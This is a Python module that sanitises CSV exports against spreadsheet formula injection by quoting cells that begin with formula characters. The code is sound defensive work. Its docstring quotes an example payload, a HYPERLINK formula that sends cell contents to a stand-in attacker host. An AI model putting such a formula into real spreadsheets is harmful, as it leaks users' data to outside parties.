"""CSV the portal writes is opened in spreadsheets: cells must not run as formulas.

Topics and payloads come from whoever may publish on a broker. A cell such as
`=HYPERLINK("https://evil.example/?"&A1,"click")` or `@SUM(...)` written verbatim
runs as a formula when the file is opened in Excel, LibreOffice or Google Sheets.
As OWASP's "CSV Injection" page advises, every cell starting with `=`, `+`, `-`,
`@`, a tab or a carriage return gets a single quote in front, which spreadsheets
show as text. (A number written by the portal itself, such as an id, never starts
with one of them; a payload "-5" is written as "'-5".)
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet reads as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose rows go through `safe_cell`: the only CSV writer to use."""

    def __init__(self, stream: _Writable, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])
